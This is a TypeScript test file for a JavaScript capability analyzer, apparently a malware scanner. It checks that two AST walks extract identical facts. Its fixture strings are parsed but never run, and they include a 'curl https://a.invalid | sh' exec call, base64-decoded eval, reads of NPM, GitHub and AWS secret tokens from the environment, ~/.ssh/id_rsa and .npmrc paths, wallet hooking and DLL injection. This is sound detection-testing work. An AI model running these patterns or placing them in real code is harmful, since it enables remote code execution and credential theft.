import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ExtractResult, extractJsCapabilities } from '../extract.js';

/**
 * The position walk must find what the ESTree walk finds: the ESTree families remain the way
 * wherever raw transfer cannot run, and the two must not drift apart.
 */
function both(source: string, filename: string): [ExtractResult, ExtractResult] {
  const options = { filename, alwaysParse: true } as const;
  return [
    extractJsCapabilities(source, { ...options, walk: 'estree' }),
    extractJsCapabilities(source, { ...options, walk: 'position' }),
  ];
}

const sorted = (result: ExtractResult) => result.facts.map((fact) => JSON.stringify(fact)).sort();

function expectSame(source: string, filename: string): number {
  const [estree, position] = both(source, filename);
  expect(sorted(position), filename).toEqual(sorted(estree));
  expect(position.file, filename).toEqual(estree.file);
  expect(position.syntaxErrors, filename).toEqual(estree.syntaxErrors);
  return estree.facts.length;
}

const FIXTURES = fileURLToPath(new URL('../../../../test/fixtures/js/data', import.meta.url));

/** Every family's shapes, in the forms the position walk reads differently from the ESTree. */
const FAMILIES = [
  "const cp = require('child_process'); cp.exec('curl https://a.invalid | sh');",
  "const { exec: run, spawn } = require('node:child_process'); run('id'); spawn('x', [], { detached: true, stdio: 'ignore' });",
  "let m; ({ execSync: m } = require('child_process')); m('whoami'); ({ spawnSync } = require('child_process'));",
  "import fs, { writeFileSync as w } from 'fs'; import * as net from 'net'; w('/tmp/x.dll', ''); net.connect(1);",
  "const payload = Buffer.from('ZXZhbA==', 'base64').toString(); eval(payload); new Function(atob('YQ=='))();",
  "const f = new Function('a', 'return a'); f(1); (0, eval)(x); window.eval(y); setTimeout('go()', 1);",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the source under test, not a template
  "module._compile(src, 'x.js'); vm.runInNewContext(code); require(name); import(`./${name}`); import('fs');",
  "function g(s) { return String.fromCharCode(s); } g('7265'); const t = decode(x); child.exec(t);",
  "fetch('https://a.invalid'); window.fetch(u); new XMLHttpRequest(); new WebSocket('wss://b.invalid');",
  "const http = require('https'); const req = http.request(o); req.write(d); req.end(); require('dns').lookup('c.invalid');",
  'JSON.stringify(process.env); Object.keys(process.env); send(process.env); for (const k in process.env) {}',
  'const o = { vars: process.env, env: process.env }; const env = { ...process.env }; const x = { ...process.env };',
  "process.env.NPM_TOKEN; process.env['GITHUB_TOKEN']; globalThis.process.env.AWS_SECRET_ACCESS_KEY; require('os').hostname();",
  "os.userInfo().uid; os.userInfo(); const _0x1a2b = ['a', 'b', 'c']; function _0xabc(_0x12ab) {} ![]; +[]; +!!false;",
  "arr.push(arr.shift()); eval(function (p, a, c, k, e, d) { return p; }('x', 1, 2, 'y'.split('|')));",
  "function a() { var s = ['x', 'y', 'z']; a = function () { return s; }; return a(); } global[Buffer.from([1, 2, 3])];",
  "cp['sp' + 'awn']('x'); cp[k]; fs['___x']; Reflect.get(cp, 'spawn'); Object.keys(cp).find((n) => n); Object.keys(fs).map(f);",
  "window.fetch = hook; XMLHttpRequest.prototype.send = s; window.ethereum.request({}); Object.defineProperty(window, 'ethereum', {});",
  "if (Date.now() > 1767225600000) run(); const on = new Date() >= new Date('2026-01-01') ? a() : b();",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the source under test, not a template
  "const wallet = /^0x[a-fA-F0-9]{40}$/; const s = `~/.ssh/id_rsa ${home} .npmrc`; WriteProcessMemory(h); inject('app.exe', 'x.dll');",
  "'use strict'; class A extends load('x') {} function h(...[a = eval('y')]) {} label: for (;;) break label;",
  'const o = { a, b: c, [d]: e, \'f\': g, get h() { return eval(i); } }; a?.b?.(c); (x as any).exec?.("y");',
];

describe('the position walk against the ESTree walk', () => {
  it('finds the same facts in the JavaScript fixtures', () => {
    let facts = 0;
    for (const name of readdirSync(FIXTURES))
      facts += expectSame(readFileSync(join(FIXTURES, name), 'utf8'), name);
    expect(facts).toBeGreaterThan(50);
  });

  it("finds the same facts in every family's shapes, as JavaScript and as TypeScript", () => {
    let facts = 0;
    for (const [i, source] of FAMILIES.entries()) {
      if (!source.includes(' as any')) facts += expectSame(source, `family-${i}.js`);
      facts += expectSame(source, `family-${i}.ts`);
    }
    expect(facts).toBeGreaterThan(100);
  });

  it('finds the same facts in a tree too deep for the position walk, which hands it to the ESTree walk', () => {
    // 4,500 operators nest 4,500 deep: within the parser's bounds, beyond this thread's stack for
    // the recursive position walk.
    const source = `const cp = require('child_process');\nx = ${'a+'.repeat(4_500)}a;\ncp.exec('id');\n`;
    const [estree, position] = both(source, 'deep.js');
    expect(position.file.parsed).toBe('full');
    expect(position.facts.map((fact) => fact.capability)).toEqual(['process.spawn']);
    expect(sorted(position)).toEqual(sorted(estree));
  });

  it('finds the same facts in any mix of those shapes', () => {
    const fragments = FAMILIES.flatMap((line) => line.split('; ')).map((part) => part.replace(/;$/, ''));
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...fragments), { minLength: 1, maxLength: 12 }),
        fc.boolean(),
        (parts, nest) => {
          const body = parts.join(';\n');
          const source = nest ? `function outer(p) {\n${body}\n}\nouter(1);` : body;
          expectSame(source, 'mix.js');
        },
      ),
      { numRuns: 150 },
    );
  });
});
